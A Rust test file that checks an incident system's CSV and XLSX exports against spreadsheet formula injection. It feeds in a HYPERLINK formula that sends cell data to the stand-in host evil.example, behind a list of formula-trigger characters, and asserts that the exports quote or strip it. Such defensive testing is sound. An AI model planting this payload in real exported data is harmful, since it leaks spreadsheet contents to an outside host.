//! Tables handed out: nothing anybody typed runs in a spreadsheet.

use serde_json::json;

use super::{NOW, at};
use crate::harness::town::Town;

const RUNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

#[tokio::test]
async fn no_cell_of_an_export_is_a_formula() {
    let town = Town::at(NOW).await;
    let head = town.sign_in("head.inf").await;
    let mut numbers = Vec::new();
    for (n, start) in RUNS.iter().enumerate() {
        let words = format!("{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        let report = json!({
            "sub_kind": "it.voice_board_down", "occurred_at": at("09:18"), "region": "CITY", "description": words,
            "board": format!("{n}"), "links_affected": {"ordering": "restricted"},
        });
        let number = head.send("/api/v1/incidents", report, 201).await["number"].as_str().unwrap().to_owned();
        let comment = json!({"text": words});
        head.send(&format!("/api/v1/incidents/{number}/comments"), comment, 200).await;
        numbers.push(number);
    }
    let browser = town.browser("head.inf").await;
    let mut addresses: Vec<String> = numbers.iter().map(|n| format!("/incidents/{n}/export")).collect();
    addresses.extend(["/figures/export".to_owned(), "/figures/records/export".to_owned()]);
    for address in addresses {
        let table = fetch(&town, &browser.http, &format!("{address}/csv"), "text/csv").await;
        assert!(table.starts_with(b"\xef\xbb\xbf"), "{address}: the mark a spreadsheet knows UTF-8 by");
        let mut cells = 0;
        for row in csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(&table[3..]).records() {
            for cell in row.unwrap().iter() {
                let number = cell.parse::<f64>().is_ok();
                assert!(number || !cell.starts_with(RUNS), "{address}: {cell:?} would run");
                cells += usize::from(cell.starts_with('\'') && cell.contains("HYPERLINK"));
            }
        }
        let trimmed = numbers.iter().position(|n| address.contains(n)).is_some_and(|n| RUNS[n].is_whitespace());
        assert!(cells > 0 || trimmed || address.starts_with("/figures"), "{address} holds the words, quoted");

        let book = fetch(&town, &browser.http, &format!("{address}/xlsx"), "application/vnd.openxml").await;
        // The archive stores its files as they are.
        let text = String::from_utf8_lossy(&book);
        assert!(text.contains("<sheetData>") && !text.contains("<f>") && !text.contains("<f "), "{address}: a formula");
        assert!(!text.contains("t=\"str\""), "{address}: the result of a formula");
    }
}

async fn fetch(town: &Town, http: &reqwest::Client, path: &str, kind: &str) -> Vec<u8> {
    let answer = http.get(format!("{}{path}", town.url)).send().await.unwrap();
    assert_eq!(answer.status().as_u16(), 200, "{path}");
    let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
    assert!(header("content-type").starts_with(kind), "{path}: {}", header("content-type"));
    assert!(header("content-disposition").starts_with("attachment"), "{path}");
    assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
    answer.bytes().await.unwrap().to_vec()
}
